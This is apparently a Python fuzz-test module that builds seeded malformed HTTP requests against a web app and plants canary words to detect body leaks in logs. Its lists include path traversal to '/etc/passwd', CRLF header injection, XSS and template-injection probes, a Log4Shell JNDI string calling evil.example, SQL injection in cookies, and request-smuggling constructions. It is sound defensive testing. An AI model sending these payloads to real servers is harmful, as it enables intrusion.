"""Requests that no browser of ours sends: each kind makes one anew from a seeded chance.

In every body stands a canary, so that a log that quotes a body is found out.
"""

import gzip
import json
import random
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Final
from urllib.parse import quote_plus

from tests.canaries import word

METHODS: Final = ("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "CONNECT")
ODD_METHODS: Final = ("get", "GETGETGET", "G\x00T", "", "POST ", "PROPFIND", "\xe9", "X" * 5000)
THEIRS: Final = (
    "/_stcore/stream",
    "/_stcore/health",
    "/_stcore/host-config",
    "/_stcore/metrics",
    "/_stcore/upload_file/x/y",
    "/_stcore/agent/openapi.json",
    "/_stcore/agent/interact",
    "/_stcore/bidi-components/ims-intake.body/body.js",
    "/media/x",
    "/component/x/y",
    "/static/js/x.js",
    "/favicon.png",
    "/auth/login",
    "/oauth2callback",
    "/nothing",
)
ODD_PATHS: Final = (
    "/%",
    "/%zz",
    "/%00",
    "/%0d%0aset-cookie:%20evil=1",
    "/..",
    "/../../etc/passwd",
    "/%2e%2e/%2e%2e/app.py",
    "/static/..%2f..%2f..%2f__init__.py",
    "/form/%2e%2e/shell.py",
    "/form/..%5c..%5cshell.py",
    "//evil.example/x",
    "/\\\\evil\\share",
    "/%c0%ae%c0%ae/",
    "/%ff%fe%fd",
    "/%F0%9F%92%89",
    "/%ed%a0%80",
    "/drawing/%00",
    "/drawing/%ff",
    "/staff/pdf/%00",
    "/staff/pdf/..%2f..",
    "/staff/pdf/%F0%9F%92%89",
    "/;x=1",
    "/?%00=%ff&&&=",
    "/?p=%00",
    "*",
    "x",
    "",
    "http://evil.example/",
    "http://evil.example:99999/staff",
    "/staff#x",
    "/a b",
    "/\xe9\xe8",
    "/\x7f\x01",
    "/staff\x00",
    "/~`!@$^&*()_+={}[]|:;'\"<>,.",
    "/<script>alert(1)</script>",
    "/{{7*7}}",
    "/${jndi:ldap://evil.example/x}",
)
ODD_HOSTS: Final = (
    "evil.example",
    "",
    "127.0.0.1:99999",
    "127.0.0.1:x",
    "[::1",
    "127.0.0.1@evil.example",
    "127.0.0.1, evil.example",
    "127.0.0.1/../",
    "x/livez?",
    "\xe9",
    "a" * 5000,
    "127.0.0.1\tx",
)
ODD_HEADERS: Final = (
    "No-Colon",
    ": empty",
    "Bad Name: x",
    "X-Null: a\x00b",
    "X-High: \xff\xfe\x80",
    "X-Folded: a\r\n b",
    "X-Bare: a\nSet-Cookie: evil=1",
    "X-Return: a\rb",
    "X-Split: a\r\nSet-Cookie: evil=1",
    "Host: 127.0.0.1",
    "Content-Length: -1",
    "Content-Length: +5",
    "Content-Length: 1e9",
    "Content-Length: 5, 6",
    "Content-Length: 99999999999999999999999",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: gzip",
    "Connection: keep-alive, x, \x01",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk",
    "Expect: 200-maybe",
    "Range: bytes=9999999-1,-",
    "Range: bytes=" + ",".join("0-1" for _ in range(500)),
    "If-None-Match: \x01\xff",
    "If-Modified-Since: Thu, 99 Foo 99999",
    "Accept-Encoding: gzip;q=x,*;q=\xff",
    "Accept: text/html;q=\xff",
    "Accept-Language: " + "x-" * 200,
    "X-Forwarded-Proto: javascript",
    "X-Forwarded-For: <script>, 1.2.3.4.5, \xff",
    "X-Forwarded-For: " + ", ".join("127.0.0.1" for _ in range(300)),
    "X-Forwarded-Host: evil.example",
    'Forwarded: for="[";proto=https',
    "Origin: null",
    "Referer: \xff//",
    "Authorization: Basic \xff",
    "Sec-Fetch-Site: \x80",
)
COOKIES: Final = ("ims_form", "ims_here", "ims_staff", "ims_size", "_streamlit_xsrf", "x")
TYPES: Final = (
    "application/x-www-form-urlencoded",
    "application/json",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "text/plain; charset=utf-16",
    "text/plain; charset=nothing",
    "application/octet-stream",
    "\xff/\x80",
    "",
)
KIB: Final = 1024


@dataclass(frozen=True)
class Sent:
    """What goes over the wire, of which kind it is, whether an answer must come, and what then."""

    kind: str
    data: bytes
    is_answered: bool = True
    then: bytes = b""


Kind = Callable[[random.Random, Sequence[str]], Sent]


def bad_path(chance: random.Random, paths: Sequence[str]) -> Sent:
    target = chance.choice((*ODD_PATHS, _mangled(chance, chance.choice(paths)), _long(chance)))
    return _read_whole("path", _request(chance.choice(METHODS[:3]), target))


def bad_method(chance: random.Random, paths: Sequence[str]) -> Sent:
    method = chance.choice((*METHODS, *ODD_METHODS))
    return Sent("method", _request(method, chance.choice(paths)))


def bad_first_line(chance: random.Random, paths: Sequence[str]) -> Sent:
    path = chance.choice(paths)
    line = chance.choice(
        (
            f"GET {path}",
            f"GET {path} HTTP/9.9",
            f"GET {path} HTTP/1.1 x",
            f"GET  {path} HTTP/1.1",
            f"{path} GET HTTP/1.1",
            f"GET\t{path}\tHTTP/1.1",
            "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
            "PRI * HTTP/2.0",
            "\r\n\r\n\r\n",
            chance.randbytes(chance.randrange(1, 300)).decode("latin-1"),
        )
    )
    text = f"{line}\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
    return Sent("first line", text.encode("latin-1"), is_answered=False)


def bad_host(chance: random.Random, paths: Sequence[str]) -> Sent:
    host = chance.choice(ODD_HOSTS)
    return Sent("host", _request("GET", chance.choice(paths), host=host))


def bad_header(chance: random.Random, paths: Sequence[str]) -> Sent:
    lines = chance.sample(ODD_HEADERS, chance.randrange(1, 4))
    text = "\r\n".join(lines)
    # One that announces a body is waited for: an answer need not come.
    waits = "Content-Length" in text or "Transfer-Encoding" in text
    data = _request(chance.choice(METHODS[:2]), chance.choice(paths), more=text)
    return Sent("header", data, is_answered=not waits)


def too_many_headers(chance: random.Random, paths: Sequence[str]) -> Sent:
    number, size = chance.choice(((2, 9 * KIB), (1, 40 * KIB), (1, 300 * KIB), (150, 9), (2000, 9)))
    more = "\r\n".join(f"X-{n}: {'x' * size}" for n in range(number))
    return _read_whole("many headers", _request("GET", chance.choice(paths), more=more))


def bad_cookie(chance: random.Random, paths: Sequence[str]) -> Sent:
    name = chance.choice(COOKIES)
    value = chance.choice(
        (
            "".join(chance.choice("abcXYZ019_-") for _ in range(43)),
            '"\\000\\001\\377"',
            "\xff\xfe" * 20,
            "x" * 7000,
            "; " * 200,
            "=" * 50,
            '"',
            "' OR 1=1 --",
            "a\x00b",
            "; ".join(f"c{n}=1" for n in range(chance.choice((10, 49, 60, 900)))),
            f"1; {name}=2; {name}=3",
        )
    )
    return Sent("cookie", _request("GET", chance.choice(paths), more=f"Cookie: {name}={value}"))


def bad_body(chance: random.Random, paths: Sequence[str]) -> Sent:
    body = chance.choice(_BODIES)(chance)
    more = f"Content-Type: {chance.choice(TYPES)}"
    if chance.random() < 0.3:
        more += "\r\nContent-Encoding: gzip"
    method = chance.choice(METHODS[1:5])
    return Sent("body", _request(method, chance.choice(paths), more=more, body=body))


def truncated_body(chance: random.Random, paths: Sequence[str]) -> Sent:
    body = _form(chance)
    more = f"Content-Length: {len(body) + chance.randrange(1, 4000)}"
    data = _request("POST", chance.choice(paths), more=more) + body
    return Sent("cut body", data, is_answered=False)


def gigantic_body(chance: random.Random, paths: Sequence[str]) -> Sent:
    length = chance.choice((65 * KIB, 1_000 * KIB, 10**9, 10**30))
    more = f"Content-Length: {length}\r\nContent-Type: {TYPES[0]}"
    data = _request(chance.choice(METHODS[1:5]), chance.choice(paths), more=more)
    return Sent("huge body", data + _form(chance) + b"x" * chance.choice((0, 60 * KIB)))


def bad_chunks(chance: random.Random, paths: Sequence[str]) -> Sent:
    secret = word("chunk").encode()
    chunks = chance.choice(
        (
            b"zz\r\n" + secret,
            b"-1\r\n" + secret + b"\r\n0\r\n\r\n",
            b"ffffffffffffffffffffff\r\n" + secret,
            b"5;" + secret + b"\r\nkey=x\r\n0\r\n\r\n",
            b"5\r\nkey=" + secret,
            b"%x\r\n" % len(secret) + secret + b"\r\n0\r\nX-Trailer: " + secret + b"\r\n\r\n",
            (b"2000\r\n" + secret.ljust(0x2000, b"x") + b"\r\n") * 20,
            b"1\r\nx\r\n" * 2000,
        )
    )
    data = _request("POST", chance.choice(paths), more="Transfer-Encoding: chunked")
    return Sent("chunks", data + chunks, is_answered=False)


def smuggled(chance: random.Random, paths: Sequence[str]) -> Sent:
    inner = b"GET /staff HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Canary: " + word("smuggled").encode()
    lengths = chance.choice(
        (
            "Content-Length: 4\r\nTransfer-Encoding: chunked",
            "Transfer-Encoding: chunked\r\nContent-Length: 60",
            "Content-Length: 4\r\nContent-Length: 60",
            "Content-Length: 4\r\nTransfer-Encoding : chunked",
            "Content-Length: 4\r\nTransfer-Encoding: \x0bchunked",
        )
    )
    data = _request("POST", chance.choice(paths), more=lengths)
    return Sent("smuggling", data + b"0\r\n\r\n" + inner + b"\r\n\r\n")


def cut_off(chance: random.Random, paths: Sequence[str]) -> Sent:
    whole = _request(chance.choice(METHODS), chance.choice(paths), more="X-Some: thing")
    return Sent("cut off", whole[: chance.randrange(1, len(whole) - 3)], is_answered=False)


KINDS: Final[Mapping[Kind, int]] = {
    bad_path: 18,
    bad_method: 8,
    bad_first_line: 6,
    bad_host: 8,
    bad_header: 14,
    too_many_headers: 4,
    bad_cookie: 10,
    bad_body: 14,
    truncated_body: 3,
    gigantic_body: 4,
    bad_chunks: 5,
    smuggled: 4,
    cut_off: 2,
}


def a_request(chance: random.Random, paths: Sequence[str]) -> Sent:
    """Make one request of any kind, to any of these paths."""
    kind = chance.choices(tuple(KINDS), tuple(KINDS.values()))[0]
    return kind(chance, (*paths, *THEIRS))


def _request(
    method: str, target: str, *, host: str = "127.0.0.1", more: str = "", body: bytes = b""
) -> bytes:
    # Half of what is refused is looked at as a browser would.
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", "Connection: close"]
    lines += ["Accept: text/html"] * (len(target) % 2)
    lines += [more] * bool(more)
    lines += [f"Content-Length: {len(body)}"] * bool(body)
    return "\r\n".join((*lines, "", "")).encode("latin-1") + body


def _read_whole(kind: str, data: bytes) -> Sent:
    """Expect an answer unless the server hangs up before it has read so much."""
    return Sent(kind, data, is_answered=len(data) < 16 * KIB)


def _mangled(chance: random.Random, path: str) -> str:
    at = chance.randrange(len(path) + 1)
    junk = chance.choice(("%", "%00", "%2f", "/", "//", "\\", "..", "%ff", ";", "?", "\xe9", "*"))
    return path[:at] + junk + path[at:]


def _long(chance: random.Random) -> str:
    return "/" + "a" * chance.choice((1_900, 2_100, 8_000, 20_000, 200_000))


def _form(_chance: random.Random) -> bytes:
    return f"key={quote_plus(word('form'))}&name={word('name')}".encode()


def _broken_form(chance: random.Random) -> bytes:
    return b"&=&%zz=" + word("broken").encode() + b"&%" + chance.randbytes(30)


def _many_fields(_chance: random.Random) -> bytes:
    return "&".join(f"{word('field')}{n}=1" for n in range(1_000)).encode()[: 60 * KIB]


def _deep_json(_chance: random.Random) -> bytes:
    return b"[" * 5_000 + json.dumps(word("json")).encode()


def _json(chance: random.Random) -> bytes:
    text = json.dumps({"key": word("json"), "n": 10**400, "x": "\ud800"})
    return text[: chance.randrange(3, len(text))].encode()


def _parts(_chance: random.Random) -> bytes:
    return (
        b'--x\r\nContent-Disposition: form-data; name="key"; filename="'
        + word("file").encode()
        + b'"\r\n\r\n'
        + word("part").encode()
    )


def _packed(chance: random.Random) -> bytes:
    packed = gzip.compress(word("packed").encode() * 5_000)
    return packed[: chance.randrange(10, len(packed))]


def _noise(chance: random.Random) -> bytes:
    return chance.randbytes(chance.randrange(1, 5_000)) + word("noise").encode()


_BODIES: Final = (_form, _broken_form, _many_fields, _deep_json, _json, _parts, _packed, _noise)
